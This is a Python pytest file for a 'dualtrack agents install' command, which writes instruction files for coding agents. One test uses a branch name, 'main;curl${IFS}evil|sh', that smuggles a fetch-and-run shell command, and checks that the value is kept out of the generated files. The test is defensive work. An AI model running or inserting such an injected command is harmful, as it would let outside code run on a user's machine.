"""`dualtrack agents install`: what tells coding agents of the board."""

from pathlib import Path

import pytest
import yaml
from dualtrack.workspace.agent_files import LINES, SKILL, block

from tests.adapters.git_repository import Repository
from tests.cli.commands import TEXT, board
from tests.cli.conftest import Call

BLOCK = block("")
KEYS = {"name", "description", "license", "compatibility", "metadata", "allowed-tools"}
"""What the front matter of a skill may hold."""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return board(tmp_path, EXP_1=TEXT)


def test_it_shows_what_it_writes_and_writes_it_once(folder: Path, call: Call) -> None:
    shown = call("agents", "install", "--dry-run")
    assert not (folder / LINES).exists()
    assert shown.out.endswith(f"would write {SKILL} and {LINES}\n")
    assert all(f"  {line}" in shown.out for line in BLOCK.splitlines())
    assert call("agents", "install").out == shown.out.replace("would write", "wrote")
    assert (folder / LINES).read_text() == BLOCK
    assert call("agents", "install").out == "nothing is to be written\n"


def test_what_is_new_is_asked_since_the_default_branch(folder: Path, call: Call) -> None:
    repository = Repository(folder)
    repository.commit("Start")
    repository.git("branch", "-m", "trunk")
    call("agents", "install")
    assert "`dualtrack check --since trunk`" in (folder / LINES).read_text()
    repository.git("update-ref", "refs/remotes/origin/trunk", "HEAD")
    assert call("agents", "install").out.endswith(f"wrote {LINES}\n")
    assert "`dualtrack check --since origin/trunk`" in (folder / LINES).read_text()
    assert "`dualtrack check --since trunk`" in (folder / SKILL).read_text()


def test_a_name_that_a_shell_would_run_is_not_written(folder: Path, call: Call) -> None:
    repository = Repository(folder)
    repository.commit("Start")
    repository.git("branch", "-m", "main;curl${IFS}evil|sh")
    call("agents", "install")
    assert "evil" not in (folder / LINES).read_text() + (folder / SKILL).read_text()


def test_the_skill_is_one(folder: Path, call: Call) -> None:
    call("agents", "install")
    _, front, body = (folder / SKILL).read_text().split("---\n", 2)
    keys = yaml.safe_load(front)
    assert keys.keys() <= KEYS
    assert keys["name"] == Path(SKILL).parent.name
    assert len(keys["description"]) <= 1024
    assert len(body) < 2_000


@pytest.mark.parametrize("newline", ["\n", "\r\n"])
@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("# Rules\n\nBe kind.\n", f"# Rules\n\nBe kind.\n\n{BLOCK}"),
        ("\ufeff# Rules", f"\ufeff# Rules\n\n{BLOCK}"),
        (f"a\n{BLOCK.replace('Work', 'Play')}\n\nb", f"a\n{BLOCK}\n\nb"),
    ],
)
def test_every_other_byte_of_agents_md_stays(folder: Path, call: Call, before: str, after: str, newline: str) -> None:
    if "\n" not in before:
        newline = "\n"
    (folder / LINES).write_bytes(before.replace("\n", newline).encode())
    assert call("agents", "install").code == 0
    assert (folder / LINES).read_bytes() == after.replace("\n", newline).encode()


@pytest.mark.parametrize(("path", "text"), [(LINES, BLOCK.splitlines()[0]), (LINES, BLOCK * 2), (SKILL, "My own.\n")])
def test_what_people_have_changed_is_left(folder: Path, call: Call, path: str, text: str) -> None:
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).write_text(text)
    done = call("agents", "install")
    assert (done.code, done.out) == (2, "")
    assert "remove" in done.err
    assert (folder / path).read_text() == text
    assert not (folder / (LINES if path == SKILL else SKILL)).exists()
